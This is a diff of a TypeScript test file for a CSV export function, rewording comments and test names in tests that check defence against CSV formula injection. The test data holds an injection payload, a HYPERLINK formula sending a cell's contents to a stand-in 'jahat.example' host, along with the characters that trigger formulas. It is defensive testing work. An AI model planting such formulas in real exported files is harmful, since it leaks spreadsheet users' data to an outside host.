@@ -3,7 +3,7 @@ import { describe, test } from "node:test";
 import { writeCsv } from "./csv.ts";
 import type { Cell, Table } from "./table.ts";
 
-/** A table of one column of texts. */
+/** Returns a table with one column that contains these cells. */
 const tableOf = (...texts: Cell[]): Table => ({
   columns: [{ name: "Judul", kind: "text" }],
   rows: texts.map((text) => [text]),
@@ -11,8 +11,8 @@ const tableOf = (...texts: Cell[]): Table => ({
 
 const line = (cell: Cell): string => writeCsv(tableOf(cell), ";").split("\r\n").slice(1).join("\r\n");
 
-describe("a table as CSV", () => {
-  test("a CSV table has a byte order mark, the names of the columns, and the separators of the language", () => {
+describe("a CSV table", () => {
+  test("a CSV table has a byte order mark, column names, and the separators of the language", () => {
     const table: Table = {
       columns: [
         { name: "Judul", kind: "text" },
@@ -36,18 +36,18 @@ describe("a table as CSV", () => {
     assert.equal(line('Kata "lubang"\nbesar'), '"Kata ""lubang""\nbesar"\r\n');
   });
 
-  // The list of OWASP: https://owasp.org/www-community/attacks/CSV_Injection
+  // The list by OWASP: https://owasp.org/www-community/attacks/CSV_Injection
   for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
     test(`a CSV table prevents a text that begins with ${JSON.stringify(start)} from becoming a formula`, () => {
       for (const before of ["", " ", "\u00A0", "\u200B", "\uFEFF", "\n"]) {
         const text = `${before}${start}HYPERLINK("https://jahat.example?"&A1)`;
-        // A line break divides a text as a separator does.
+        // A line break splits a text just as a separator does.
         const guarded = before === "\n" && !/\s/.test(start) ? `${before}'${text.slice(1)}` : text;
         assert.equal(line(text), `"'${guarded.replaceAll('"', '""')}"\r\n`);
       }
     });
 
-  test("a CSV table leaves other texts unchanged, also with such a character in the middle", () => {
+  test("a CSV table leaves other texts unchanged, even with such a character in the middle", () => {
     for (const text of [
       "Jalan 2+3",
       "a=b",
@@ -61,7 +61,7 @@ describe("a table as CSV", () => {
       assert.equal(line(text), `"${text}"\r\n`);
   });
 
-  test("a CSV table prevents a text from starting a new cell with a formula", () => {
+  test("a CSV table prevents a text from starting a new cell that contains a formula", () => {
     for (const [text, written] of [
       ['";=1+1;"', '";\'=1+1;"'],
       ['",=1+1,"', '",\'=1+1,"'],
@@ -70,7 +70,7 @@ describe("a table as CSV", () => {
       assert.equal(line(text), `"${written.replaceAll('"', '""')}"\r\n`);
   });
 
-  test("a CSV table lets no text start a formula where a spreadsheet expects another separator", () => {
+  test("a CSV table prevents formulas even where a spreadsheet expects another separator", () => {
     for (const separator of [",", ";", "\t"])
       for (const space of ["", " ", "\u200B"])
         for (const start of ["=", "+", "-", "@", "＝"]) {
